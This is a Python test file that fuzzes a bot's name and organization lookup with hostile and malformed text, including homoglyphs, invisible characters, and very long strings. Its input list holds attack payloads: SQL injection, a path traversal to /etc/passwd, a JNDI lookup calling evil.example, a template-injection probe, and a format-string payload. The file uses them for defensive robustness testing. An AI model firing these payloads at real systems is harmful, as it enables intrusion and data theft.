"""Whatever is typed gets an answer, and never an error."""

from __future__ import annotations

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.names import Lookup, NameIndex, completion, retrieval

NASTY = [
    "",
    " ",
    "\x00",
    "\n\r\t\v\f",
    "a" * 2_000,
    "word " * 100,
    "wei " * 500,
    "ОpenAI",  # a Cyrillic О
    "mаx schwаrzer",  # Cyrillic а
    "\u200bmax\u200d \u2060schwarzer\ufeff",
    "\u202eresrawhcs xam\u202c",
    "m\u0301\u0302\u0303\u0304ax " + "\u0301" * 300,
    "👩‍🔬🧪🤖",
    "max 🤖 schwarzer",
    "'; DROP TABLE person; --",
    '" OR 1=1 --',
    "**max** __schwarzer__ `x` ||spoiler||",
    "[max](https://evil.example)",
    "@everyone <@123456789012345678> <#1> <@&2>",
    "<:emoji:123456789012345678>",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "\ud800",  # half a surrogate pair
    "ﷺ" * 100,
    "Z̸̢̛a̷̢͝l̵͖͑g̶͚̈o̴̲͒",
    "一" * 2_000,
    "ａｄａ　ｆｉｃｔｉｏｎａｌ",
    "𝓜𝓪𝔁 𝓢𝓬𝓱𝔀𝓪𝓻𝔃𝓮𝓻",
    "max.schwarzer@openai.com" * 20,
    "https://" + "a" * 1_000,
    "-" * 500,
    "0" * 500,
]


@pytest.mark.parametrize("typed", NASTY, ids=range(len(NASTY)))
def test_nasty_text_is_answered_and_completed(lookup: Lookup, typed: str) -> None:
    for found in (lookup.person(typed), lookup.organization(typed)):
        assert found.decision in ("sure", "choose", "none")
        assert len(found.candidates) <= 10
    assert len(lookup.people.complete(typed)) <= 25
    assert len(lookup.organizations.complete(typed)) <= 25


@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(st.text(max_size=120))
def test_any_text_is_answered_and_completed(lookup: Lookup, typed: str) -> None:
    assert lookup.person(typed).decision in ("sure", "choose", "none")
    assert lookup.organization(typed).decision in ("sure", "choose", "none")
    lookup.people.complete(typed)
    lookup.organizations.complete(typed)


@pytest.mark.parametrize(
    ("typed", "meant"),
    [
        ("mаx schwаrzer", "max-schwarzer"),  # Cyrillic а
        ("\u200bmax\u200d \u2060schwarzer\ufeff", "max-schwarzer"),
        ("𝓜𝓪𝔁 𝓢𝓬𝓱𝔀𝓪𝓻𝔃𝓮𝓻", "max-schwarzer"),
        ("max 🤖 schwarzer", "max-schwarzer"),
        ("**max** __schwarzer__", "max-schwarzer"),
    ],
)
def test_a_name_is_found_through_what_hides_it(lookup: Lookup, typed: str, meant: str) -> None:
    found = lookup.person(typed)
    assert (found.decision, found.candidates[0].id) == ("sure", meant)


def test_an_organization_is_found_through_letters_of_another_alphabet(lookup: Lookup) -> None:
    found = lookup.organization("ОpenAI")
    assert (found.decision, found.candidates[0].id) == ("sure", "openai")


@given(st.text(max_size=60), st.text(max_size=60))
@settings(max_examples=100, deadline=None)
def test_any_text_may_be_a_name_that_is_stored(name: str, typed: str) -> None:
    index = NameIndex.build([("one", "Ada Fictional")])
    index.add("two", name)
    index.find(typed)
    index.find(name)
    index.complete(name)
    index.remove("two")
    assert "two" not in [one.id for one in index.find(name).candidates]


def common_names(size: int) -> list[tuple[str, str]]:
    """So many people who share a few first names and surnames, and initials."""
    first = ("Wei", "Jo", "A.", "Maria", "M. A.", "Ann")
    last = ("Wang", "Wong", "Li", "Lee", "Kim", "A")
    return [(str(number), f"{first[number % 6]} {last[number // 6 % 6]}") for number in range(size)]


@pytest.mark.parametrize(
    "typed",
    [
        *("a", "m", "an", "wei", "a a a a", "j s", "a b c d e f g h i j", "wei wang", "wei " * 100),
        *("wang wei li lee kim maria jo ann wong a", "maria lie", "jon leee", "an an wn an"),
    ],
)
def test_what_a_search_looks_at_does_not_grow_with_the_gallery(
    typed: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(retrieval, "MOST_FETCHED", 1_000)
    monkeypatch.setattr(retrieval, "MOST_CROSSED", 2_000)
    monkeypatch.setattr(retrieval, "MOST_SCORED", 1_000)
    monkeypatch.setattr(retrieval, "MOST_ALONE", 500)
    monkeypatch.setattr(completion, "MOST_CROSSED", 2_000)
    monkeypatch.setattr(completion, "MOST", 500)
    index = NameIndex.build(common_names(60_000))
    touched = index.touched
    index.find(typed)
    assert index.touched - touched < 20_000
    touched = index.touched
    assert index.complete(typed)
    assert index.touched - touched < 20_000
